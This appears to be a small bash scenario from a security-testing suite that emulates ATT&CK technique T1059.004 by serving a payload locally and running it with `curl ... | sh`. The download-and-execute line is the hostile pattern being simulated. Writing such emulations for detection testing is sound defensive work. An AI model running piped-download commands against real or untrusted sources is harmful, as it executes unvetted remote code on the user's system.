#!/usr/bin/env bash
# Downloaded content piped into a shell: `curl -fsSL URL | sh`.
. "$(dirname "$0")/../lib.sh"
scn_begin pipe-curl-sh T1059.004
scn_require curl
scn_http_peer
scn_payload_script "$SCN_WORK/srv/install.sh"
SCN_OUT="$SCN_WORK/out"
curl -fsSL --max-time 10 "$SCN_URL/install.sh" | sh >"$SCN_OUT"
scn_shell_finish
